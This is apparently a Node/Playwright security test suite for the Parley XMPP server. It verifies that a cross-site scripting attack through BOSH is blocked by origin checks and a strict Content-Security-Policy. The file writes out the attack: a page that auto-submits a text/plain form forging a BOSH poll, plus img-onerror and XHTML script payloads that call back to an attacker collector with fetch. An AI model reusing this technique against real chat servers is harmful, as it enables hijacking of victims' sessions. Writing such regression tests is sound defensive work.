/**
 * Cross-site scripting through BOSH, in headless Chromium (playwright-core). The attacker
 * has a BOSH session of his own with a message queued in it that carries script (an
 * `<img onerror>` for a session that asked for content='text/html', an XHTML-namespace
 * `<html:script>` for a text/xml one); a page of his origin makes the victim's browser
 * post a text/plain form to /http-bind that polls that session, so the response would
 * be rendered as a page on Parley's origin (where the demo portal lives). Nothing runs:
 * a foreign origin is refused before the request is processed, and where the request is
 * processed (a listed origin), the response is text/xml under a CSP that runs nothing.
 * The demo portal's own pages run under their strict CSP without a violation.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium, type Browser } from 'playwright-core';
import { startTestServer, DOMAIN, type TestServer } from './helpers/server.js';
import { connectClient, xml, type TestClient } from './helpers/client.js';
import { RawBosh, HTTPBIND } from './helpers/bosh.js';
import { CHROMIUM, haveChromium } from './helpers/tools.js';

const XHTML = 'http://www.w3.org/1999/xhtml';

/** Parley as shipped (default corsOrigins), with the demo portal on its origin. */
let ts: TestServer;
/** Parley with a portal on another origin listed in corsOrigins: there the poll is processed. */
let withPortal: TestServer;
let browser: Browser;
/** The attacker's pages: one origin Parley does not know, one it lists in corsOrigins. */
let foreign: Server;
let listed: Server;
/** Where a script that ran reports (on the attacker's server). */
const ran = new Set<string>();
const pages = new Map<string, string>();
const clients: TestClient[] = [];

function attackerServer(): Server {
  return createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.pathname === '/ran') {
      ran.add(url.searchParams.get('c') ?? '?');
      res.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
      return;
    }
    const page = pages.get(url.pathname);
    res.writeHead(page ? 200 : 404, { 'Content-Type': 'text/html; charset=utf-8' });
    res.end(page ?? '');
  });
}

const origin = (s: Server) => `http://127.0.0.1:${(s.address() as AddressInfo).port}`;

before(async () => {
  if (!haveChromium()) throw new Error(`Chromium is not installed at ${CHROMIUM}: run "apt-get install chromium"`);
  foreign = attackerServer();
  listed = attackerServer();
  await new Promise<void>((r) => foreign.listen(0, '127.0.0.1', () => r()));
  await new Promise<void>((r) => listed.listen(0, '127.0.0.1', () => r()));
  // The demo portal is on Parley's origin: a script running there could ask /demo/prebind
  // for the victim's chat session.
  ts = await startTestServer({ demo: { enabled: true } });
  await ts.addUser('mallory');
  withPortal = await startTestServer({ listen: { http: { corsOrigins: [origin(listed)] } } });
  await withPortal.addUser('mallory');
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
});

after(async () => {
  for (const c of clients) await c.stop();
  await browser?.close();
  for (const s of [foreign, listed]) await new Promise<void>((r) => (s ? s.close(() => r()) : r()));
  await ts?.stop();
  await withPortal?.stop();
});

/** The script a queued message carries: it marks the page and calls the attacker back. */
function payload(name: string, collector: string): string {
  return `window.__ran = '${name}'; fetch('${collector}/ran?c=${name}', { mode: 'no-cors' });`;
}

/**
 * Mallory's BOSH session (content as given) with one message queued in it, sent by his
 * own TCP resource; the session has no request open, so the message waits for the next.
 */
async function armedSession(server: TestServer, name: string, content: string | undefined, carrier: (collector: string) => ReturnType<typeof xml>, collector: string): Promise<RawBosh> {
  const b = new RawBosh(`${server.httpUrl}/http-bind`);
  await b.login('mallory', 'secret', { resource: `bosh-${name}`, presence: false, create: { wait: '5', ...(content ? { content } : {}) } });
  const tcp = await connectClient({ port: server.port, username: 'mallory', password: 'secret', resource: `tcp-${name}` });
  clients.push(tcp);
  await tcp.send(xml('message', { to: b.jid, type: 'chat', id: name }, xml('body', null, `marker-${name}`), carrier(collector)));
  // The server has handled the message once it answers a later IQ on the same stream.
  await tcp.iq(xml('iq', { type: 'get', to: DOMAIN }, xml('ping', { xmlns: 'urn:xmpp:ping' })));
  return b;
}

/** The attacker's page: auto-submits a text/plain form whose body is a BOSH poll of `b`. */
function formPage(b: RawBosh): string {
  const action = b.url;
  // enctype=text/plain sends "name=value": the '=' lands inside an attribute value.
  const name = `<body xmlns='${HTTPBIND}' rid='${b.rid}' sid='${b.sid}' a='`;
  return `<!doctype html><html><body>
<form id="f" method="post" enctype="text/plain" action="${action}"><input type="hidden" name="${name}" value="'/>"></form>
<script>document.getElementById('f').submit();</script></body></html>`;
}

/** Opens the attacker's page; returns the top-level response the form POST navigated to. */
async function attack(name: string, attacker: Server, b: RawBosh): Promise<{ status: number; headers: Record<string, string>; text: string; ranInPage: unknown }> {
  pages.set(`/${name}`, formPage(b));
  const context = await browser.newContext();
  const page = await context.newPage();
  try {
    const navigated = page.waitForResponse((r) => r.url().endsWith('/http-bind') && r.request().method() === 'POST', { timeout: 20_000 });
    await page.goto(`${origin(attacker)}/${name}`);
    const res = await navigated;
    await page.waitForURL(/\/http-bind$/, { timeout: 20_000 });
    await page.waitForLoadState('load');
    // Bounded grace for an onerror or a script to run (liveness, not speed).
    await new Promise((r) => setTimeout(r, 1000));
    const ranInPage = await page.evaluate(() => (globalThis as { __ran?: unknown }).__ran);
    return { status: res.status(), headers: res.headers(), text: await res.text(), ranInPage };
  } finally {
    await context.close();
  }
}

const img = (name: string) => (collector: string) => xml('img', { xmlns: 'x', src: 'x', onerror: payload(name, collector) });
const xhtmlScript = (name: string) => (collector: string) => xml('html:script', { 'xmlns:html': XHTML }, payload(name, collector));

test("a foreign page's form POST polling a content='text/html' session is refused, and nothing runs", async () => {
  const b = await armedSession(ts, 'foreign-html', 'text/html', img('foreign-html'), origin(foreign));
  const r = await attack('foreign-html', foreign, b);
  assert.equal(r.ranInPage, undefined, 'the script ran');
  assert.ok(!ran.has('foreign-html'), 'the script called back');
  assert.equal(r.status, 403, r.text);
  assert.equal(r.headers['access-control-allow-origin'], undefined);
  // The request was not processed: the message is still queued for the session's own client.
  const got = await b.until(await b.send(), 'message', (el) => el.attrs.id === 'foreign-html');
  assert.equal(got.getChildText('body'), 'marker-foreign-html');
  await b.send({ type: 'terminate' });
});

test("a foreign page's form POST polling a text/xml session with an XHTML <script> is refused, and nothing runs", async () => {
  const b = await armedSession(ts, 'foreign-xml', undefined, xhtmlScript('foreign-xml'), origin(foreign));
  const r = await attack('foreign-xml', foreign, b);
  assert.equal(r.ranInPage, undefined, 'the script ran');
  assert.ok(!ran.has('foreign-xml'), 'the script called back');
  assert.equal(r.status, 403, r.text);
  await b.send({ type: 'terminate' });
});

test("where the poll is processed (a listed origin), content='text/html' is answered as text/xml and the <img onerror> does not run", async () => {
  const b = await armedSession(withPortal, 'listed-html', 'text/html', img('listed-html'), origin(listed));
  const r = await attack('listed-html', listed, b);
  b.rid++; // the browser's request took this rid
  assert.equal(r.ranInPage, undefined, 'the script ran');
  assert.ok(!ran.has('listed-html'), 'the script called back');
  assert.equal(r.status, 200);
  assert.match(r.text, /marker-listed-html/, 'the queued message came back to the browser');
  assert.equal(r.headers['content-type'], 'text/xml; charset=utf-8');
  assert.equal(r.headers['x-content-type-options'], 'nosniff');
  assert.equal(r.headers['content-security-policy'], "default-src 'none'; frame-ancestors 'none'");
  await b.send({ type: 'terminate' });
});

test('where the poll is processed, an XHTML-namespace <script> in the text/xml response does not run (CSP)', async () => {
  const b = await armedSession(withPortal, 'listed-xml', undefined, xhtmlScript('listed-xml'), origin(listed));
  const r = await attack('listed-xml', listed, b);
  b.rid++;
  assert.equal(r.ranInPage, undefined, 'the script ran');
  assert.ok(!ran.has('listed-xml'), 'the script called back');
  assert.equal(r.status, 200);
  assert.match(r.text, /marker-listed-xml/);
  assert.match(r.text, /html:script/, 'the script element was delivered');
  assert.equal(r.headers['content-type'], 'text/xml; charset=utf-8');
  assert.equal(r.headers['content-security-policy'], "default-src 'none'; frame-ancestors 'none'");
  await b.send({ type: 'terminate' });
});

test('the demo portal and its widget work under their strict CSP, with no violation', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const violations: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/i.test(m.text())) violations.push(m.text());
  });
  try {
    await page.goto(`${ts.httpUrl}/`);
    await page.fill('#user', 'carol');
    await page.fill('#password', 'demo');
    await Promise.all([page.waitForURL(`${ts.httpUrl}/`), page.click('main button[type=submit]')]);
    await page.waitForSelector('.parley[data-connection="online"]', { timeout: 20_000 });
    // The widget's stylesheet applies (linked, not injected).
    const position = await page.evaluate(() => {
      const g = globalThis as any;
      return g.getComputedStyle(g.document.querySelector('.parley')).position as string;
    });
    assert.equal(position, 'fixed');
    assert.deepEqual(violations, []);
  } finally {
    await context.close();
  }
});
